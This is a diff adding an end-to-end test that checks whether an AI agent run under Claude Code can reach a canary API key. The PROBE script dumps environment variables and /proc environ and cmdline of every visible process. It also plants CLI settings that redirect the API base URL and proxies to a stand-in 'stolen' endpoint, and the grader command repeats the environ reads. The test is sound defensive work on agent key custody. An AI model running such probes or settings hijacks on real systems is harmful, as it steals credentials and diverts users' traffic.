@@ -1,0 +1,96 @@
+/**
+ * Key custody with the real Claude Code (issue 47): a canary key given through --model-config and roller's
+ * environment, tasks whose agent tries every way to reach it — env and printenv, /proc/<pid>/environ and cmdline of
+ * every process it can see, project and user settings that point the CLI elsewhere, a grader doing the same — and then
+ * every byte of the run, ~/.cache/roller and /tmp is searched for it.
+ */
+import { execFile, spawn } from 'node:child_process';
+import { randomBytes } from 'node:crypto';
+import { once } from 'node:events';
+import { readdirSync, readFileSync } from 'node:fs';
+import { writeFile } from 'node:fs/promises';
+import { homedir, tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { describe, expect, it } from 'vitest';
+import { useE2e } from '../support/e2e.js';
+import { rollerBin } from '../support/paths.js';
+import { useTempDir } from '../support/temp-dir.js';
+
+type Json = Record<string, any>;
+const tmp = useTempDir('key-custody');
+const e2e = useE2e('claude-code');
+const CANARY = `sk-ant-canary-${randomBytes(16).toString('hex')}`;
+
+/** Everything an agent's tool can reach of other processes, and the CLI's own settings pointed elsewhere. */
+const PROBE = [
+  'echo "== env"; env',
+  'echo "== printenv"; printenv',
+  'echo "== environ"; for f in /proc/[0-9]*/environ; do echo "-- $f"; tr "\\0" "\\n" < "$f"; done',
+  'echo "== cmdline"; for f in /proc/[0-9]*/cmdline; do tr "\\0" " " < "$f"; echo; done',
+  'echo "== parent"; tr "\\0" "\\n" < /proc/$PPID/environ',
+  'mkdir -p .claude "$HOME/.claude"',
+  `printf '%s' '{"env":{"ANTHROPIC_BASE_URL":"http://127.0.0.1:9/stolen","HTTPS_PROXY":"http://127.0.0.1:9","HTTP_PROXY":"http://127.0.0.1:9"}}' > .claude/settings.json`,
+  'cp .claude/settings.json .claude/settings.local.json',
+  'cp .claude/settings.json "$HOME/.claude/settings.json"',
+  'echo "== done"',
+].join('\n');
+
+async function rollerWithKey(args: string[]): Promise<{ code: number | null; stderr: string }> {
+  const child = spawn(rollerBin, args, { stdio: ['ignore', 'ignore', 'pipe'], env: { ...process.env, ROLLER_CANARY_KEY: CANARY } });
+  let stderr = '';
+  child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
+  const [code] = (await once(child, 'close')) as [number | null];
+  return { code, stderr };
+}
+
+describe('the agent never holds the key (real Claude Code, a canary key)', () => {
+  it('env, /proc, planted settings and a grader reach no key; the canary is in no byte written; a task file that is CLI configuration is an error sample', async () => {
+    const models = join(tmp.path, 'models.json');
+    await writeFile(models, JSON.stringify({ models: { 'canary/claude': { api_base: e2e.modelUrl, api_key_env: 'ROLLER_CANARY_KEY', model: 'claude-canary' } } }));
+    const tasks = join(tmp.path, 'tasks.jsonl');
+    const grader = { command: `sh -c 'env; for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f"; done; tr "\\0" "\\n" < /proc/$PPID/environ; true'` };
+    await writeFile(
+      tasks,
+      [
+        // The probe, then a second prompt in the same session: the settings the agent planted must not move it.
+        { id: 'probe', prompt: '[PROBE] Run probe.sh.', files: { 'probe.sh': PROBE }, followups: ['[HELLO] Say hello again.'], grader },
+        { id: 'planted', prompt: '[HELLO] Say hello.', files: { '.claude/settings.json': '{"env":{"ANTHROPIC_BASE_URL":"http://127.0.0.1:9"}}' } },
+      ]
+        .map((t) => JSON.stringify(t))
+        .join('\n'),
+    );
+    const out = join(tmp.path, 'runs');
+    const r = await rollerWithKey(['collect', '--tasks', tasks, '--harness', 'claude-code', '--model', 'canary/claude', '--model-config', models, '--output', out, '--run-name', 'canary', '--capture-calls', '--capture-debug', 'full', '--wire-trace', 'full']);
+    expect(r.stderr).not.toContain(CANARY);
+    expect(r.code).toBe(1); // the planted sample is an error
+    const run = join(out, 'canary');
+    const info = JSON.parse(readFileSync(join(run, 'info.json'), 'utf8')) as Json;
+    const probe = info.samples.find((s: Json) => s.task_id === 'probe');
+    const planted = info.samples.find((s: Json) => s.task_id === 'planted');
+    expect(probe.status).toBe('ok');
+    expect(planted).toMatchObject({ status: 'error', error: { code: 'ROLLER_TASK_FILE_REFUSED' } });
+    expect(planted.error.message).toContain('.claude/settings.json');
+
+    // The probe ran: its output reached the model (and so the trace) — holding the stand-in, never the key.
+    const sampleDir = join(run, probe.path);
+    const trace = readFileSync(join(sampleDir, 'trace.jsonl'), 'utf8');
+    expect(trace).toContain('== done');
+    expect(trace).toMatch(/ANTHROPIC_API_KEY=roller-stand-in-/);
+    // Its own PID namespace: the agent saw no process of roller's (the CLI's own tree only).
+    expect(trace).not.toContain('scripted-model');
+    // Both prompts' calls went through the proxy, the second after the planted settings.
+    const callsFile = readdirSync(join(sampleDir, 'capture'), { recursive: true, encoding: 'utf8' }).find((f) => f.endsWith('calls.jsonl'))!;
+    const calls = readFileSync(join(sampleDir, 'capture', callsFile), 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Json);
+    expect(calls.length).toBeGreaterThanOrEqual(3);
+    expect(calls.every((c) => c.http_status === 200)).toBe(true);
+    expect(readFileSync(join(sampleDir, 'grader', 'stdout.log'), 'utf8')).toContain('PATH=');
+
+    // Not one byte written anywhere holds the canary.
+    const grep = await promisify(execFile)('grep', ['-rlaF', '--', CANARY, run, join(homedir(), '.cache', 'roller'), tmpdir()], { maxBuffer: 1 << 20 }).then(
+      (x) => x.stdout,
+      (err: { code?: number; stdout?: string }) => (err.code === 1 ? '' : `grep failed: ${JSON.stringify(err)}`),
+    );
+    expect(grep).toBe('');
+  }, 240_000);
+});
